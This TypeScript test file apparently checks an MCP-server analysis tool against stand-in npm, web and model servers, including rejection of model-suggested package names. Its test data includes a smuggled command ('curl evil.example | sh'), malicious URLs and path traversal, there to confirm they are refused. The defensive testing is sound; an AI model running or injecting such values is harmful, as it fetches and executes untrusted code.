/** Tests repositories that no host can show, with the real SDK against a model's API on loopback. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { createAnalysisTools } from '#server/compose/analysis-tools.ts';
import type { ModelBudget, ModelQuestionCost } from '../../quotas/model-budget.ts';
import { analyzeSource } from '../analyze.ts';
import type { AnalysisTools } from '../context.ts';
import { createModelReader } from '../llm/reader.ts';
import { type ModelStandIn, startModelStandIn } from '../registries/stand-ins/llm.ts';
import { type NpmStandIn, startNpmStandIn } from '../registries/stand-ins/npm-registry.ts';
import { startWebStandIn, type WebStandIn } from '../registries/stand-ins/web.ts';
import type { ServerCandidate } from '../result.ts';
import { parseSource } from '../source/parse-source.ts';

const SERVER = { version: '1.0.0', bin: 'index.js', dependencies: { '@modelcontextprotocol/sdk': '1' } };

let npm: NpmStandIn;
let web: WebStandIn;
let model: ModelStandIn;
let folder: string;
let tools: AnalysisTools;
let close: () => Promise<void>;
let admitted: ModelQuestionCost[];

beforeEach(async () => {
  [npm, web, model, folder] = await Promise.all([
    startNpmStandIn(),
    startWebStandIn(),
    startModelStandIn(),
    mkdtemp(join(tmpdir(), 'catwalk-web-')),
  ]);
  admitted = [];
  const budget: ModelBudget = {
    begin: async (cost) => {
      admitted.push(cost);
      return { settle: async () => {}, waive: async () => {} };
    },
  };
  const made = createAnalysisTools({
    npmConfiguration: { cache: join(folder, 'npm') },
    npmRegistryUrl: npm.url,
    githubApiUrl: web.url,
    githubToken: null,
    pypiUrl: web.url,
    mcpRegistryUrl: web.url,
    dataDir: folder,
    now: () => new Date('2026-06-01T00:00:00Z'),
  });
  tools = { ...made.tools, model: createModelReader({ apiKey: 'k', baseUrl: model.url, model: 'm', budget }) };
  close = made.close;
  web.answer('/repos/o/r', { status: 503 });
});
afterEach(async () => {
  await close();
  await Promise.all([npm.close(), web.close(), model.close()]);
  await rm(folder, { recursive: true, force: true });
});

const analyze = (isLastTry = true) =>
  analyzeSource(
    parseSource('o/r', { localPathsAllowed: false }),
    tools,
    async () => {},
    AbortSignal.timeout(20_000),
    isLastTry,
  );
const summary = (candidates: ServerCandidate[]) => candidates.map((one) => [one.package, one.verified]);

test('a package that a registry confirms is verified; two results of the web are read, and paid for', async () => {
  npm.publish({ name: 'far-named', ...SERVER, repository: 'https://github.com/o/r' }, {});
  model.says({ packages: [{ registry: 'npm', name: 'far-named' }] });
  const { result, isPartial } = await analyze();
  expect(isPartial).toBe(true);
  expect(summary(result.candidates)).toEqual([['far-named', true]]);
  expect(result.warnings[0]).toMatchObject({ code: 'GITHUB_UNREACHABLE' });
  expect(model.asked[0]).toMatchObject({ plugins: [{ id: 'web', max_results: 2 }] });
  expect(admitted[0]?.inputTokensMax).toBeGreaterThan(20_000);
});

test('a package that does not lead back is unverified, and must be confirmed', async () => {
  npm.publish({ name: 'evil-mcp', ...SERVER, repository: 'https://github.com/evil/evil' }, {});
  model.says({ packages: [{ registry: 'npm', name: 'evil-mcp' }] });
  const { result } = await analyze();
  expect(summary(result.candidates)).toEqual([['evil-mcp', false]]);
  expect(result.warnings).toContainEqual(expect.objectContaining({ code: 'UNVERIFIED_PACKAGE', weight: 'CONFIRM' }));
});

test.each([
  ['commands', [{ registry: 'npm', name: 'far-named; curl evil.example | sh' }]],
  ['addresses', [{ registry: 'npm', name: 'git+https://evil.example/x.git' }]],
  ['tarballs', [{ registry: 'npm', name: 'https://evil.example/x.tgz' }]],
  ['folders', [{ registry: 'npm', name: '../../etc' }]],
  ['aliases', [{ registry: 'npm', name: 'far-named@npm:evil-mcp' }]],
  ['versions', [{ registry: 'npm', name: 'far-named@0.0.1' }]],
  ['what is not there', [{ registry: 'pypi', name: 'invented' }]],
  ['nothing', []],
])('reports the outage when %s lead nowhere', async (_, packages) => {
  npm.publish({ name: 'far-named', ...SERVER, repository: 'https://github.com/o/r' }, {});
  model.says({ packages });
  await expect(analyze()).rejects.toMatchObject({ code: 'GITHUB_UNREACHABLE', retryable: true });
});

test.each([
  ['no JSON', 'npx evil-mcp'],
  ['half an answer', '{"packages": [{"registry": "npm", "na'],
  ['wrong types', '{"packages": "evil-mcp"}'],
  ['another registry', '{"packages": [{"registry": "docker", "name": "evil"}]}'],
])('%s is as if the model had said nothing', async (_, content) => {
  model.answer = { status: 200, content };
  await expect(analyze()).rejects.toMatchObject({ code: 'GITHUB_UNREACHABLE' });
});

test('the web is not searched while another try may reach the repository, nor when a registry knows it', async () => {
  await expect(analyze(false)).rejects.toMatchObject({ code: 'GITHUB_UNREACHABLE' });
  npm.publish({ name: 'r', ...SERVER, repository: 'github:o/r' }, {});
  expect(summary((await analyze()).result.candidates)).toEqual([['r', true]]);
  expect(model.asked.filter((one) => 'plugins' in one)).toEqual([]);
});

test('a model that fails leaves a partial result with all that was found without it', async () => {
  web.repository('o/r', {
    'package.json': JSON.stringify({ name: 'a-mcp', ...SERVER }),
    'README.md': '# A\n\nNeeds `A_TOKEN`.\n',
    'index.js': 'const t = process.env.A_TOKEN;\n',
  });
  npm.publish({ name: 'a-mcp', ...SERVER, repository: 'github:o/r' }, {});
  model.answer = { status: 503, content: null };
  const { result, isPartial } = await analyze();
  expect(isPartial).toBe(true);
  expect(result.candidates).toMatchObject([{ deployable: true, credentials: [{ name: 'A_TOKEN' }] }]);
  expect(result.warnings).toContainEqual(expect.objectContaining({ code: 'MODEL_FAILED' }));
});
